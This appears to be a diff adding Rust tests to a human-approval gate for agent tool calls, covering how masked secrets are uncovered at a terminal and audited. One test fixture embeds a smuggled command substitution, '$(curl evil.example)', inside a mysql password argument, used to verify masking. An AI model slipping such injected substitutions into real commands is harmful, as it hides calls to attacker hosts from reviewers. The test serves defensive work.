@@ -12,6 +12,7 @@ use super::stdin::Console;
 use super::{Ink, TerminalApprover, card, preview};
 use crate::approval::fixture::{NOW, request};
 use crate::approval::{Answer, Approver as _, Choice, Review};
+use crate::audit::AuditEvent;
 use crate::call::Principal;
 
 #[test]
@@ -87,6 +88,9 @@ fn nothing_is_decided_by_accident() {
     assert_eq!(read("r  too much ", &request), Reply::Reject(Some("too much".to_owned())));
     assert_eq!(read("?", &request), Reply::Details);
     assert_eq!(read("s", &request), Reply::Skip);
+    assert_eq!(read("u", &request), Reply::Unclear, "nothing is masked");
+    let masked = super::super::fixture::request(r#"{"password":"[redacted]"}"#);
+    assert_eq!(read("u", &masked), Reply::Uncover);
     request.choices = vec![Choice::Reject];
     assert_eq!(read("a", &request), Reply::Unclear);
     assert!(!question(&request).contains("[a]"));
@@ -147,6 +151,58 @@ mod typed {
         assert_eq!(shown.matches("Type one of the letters").count(), 2, "{shown}");
         assert_eq!(shown.matches("Reason (needed)").count(), 2, "{shown}");
         assert!(shown.contains("binding"), "{shown}");
+    }
+
+    /// Runs a command.
+    #[derive(serde::Deserialize, schemars::JsonSchema)]
+    struct Command {
+        run: String,
+    }
+
+    impl crate::Tool for Command {
+        type Output = String;
+        type Error = String;
+        const SPEC: crate::Spec = crate::Spec::new("command", "Runs a command.")
+            .config(crate::HitlConfig::DEFAULT.base_confidence(70));
+        fn snapshot(&self, to: &mut crate::SnapshotWriter) -> Result<(), crate::SnapshotError> {
+            to.object(|fields| fields.field("run", &self.run))
+        }
+        async fn run(permit: crate::Permit<Self>) -> Result<String, String> {
+            Ok(permit.open().0.run)
+        }
+    }
+
+    #[tokio::test]
+    async fn invariant_9b_one_key_at_the_terminal_shows_what_is_masked() {
+        let (terminal, mut keyboard, shown) = typed(true);
+        let audit = crate::MemoryAudit::new();
+        let gate = crate::Gate::builder()
+            .tool::<Command>()
+            .audit(audit.clone())
+            .approver(TerminalApprover::new("ann").on(terminal))
+            .build()
+            .await
+            .unwrap();
+        keyboard.write_all(b"u\na\n").unwrap();
+        let run = "mysql --password=\"aB3dE6gH$(curl evil.example)\"";
+        let submitted = gate.submit(Command { run: run.to_owned() }).by("agent").await.unwrap();
+        assert!(matches!(submitted, crate::Submission::Done { .. }), "{submitted:?}");
+        let shown = shown.lock().unwrap();
+        let (before, after) = shown.split_once("[u] Uncover (2 masked)").unwrap();
+        assert!(before.contains("masked by its name: 8 characters") && !before.contains("curl"));
+        assert!(after.contains("$(curl evil.example)"), "{after}");
+        let uncovered = audit.records().into_iter().find(|r| r.event == AuditEvent::Uncovered);
+        assert_eq!(uncovered.unwrap().by.unwrap().as_str(), "ann");
+    }
+
+    #[tokio::test]
+    async fn invariant_9b_a_terminal_that_cannot_uncover_does_not_ask() {
+        let (terminal, mut keyboard, shown) = typed(true);
+        keyboard.write_all(b"a\n").unwrap();
+        let masked = request(r#"{"password":"[redacted]"}"#);
+        let approver = TerminalApprover::new("ann").on(terminal);
+        assert_eq!(approver.review(&masked).await, Review::NoAnswer);
+        assert_eq!(*shown.lock().unwrap(), "");
     }
 
     #[tokio::test]
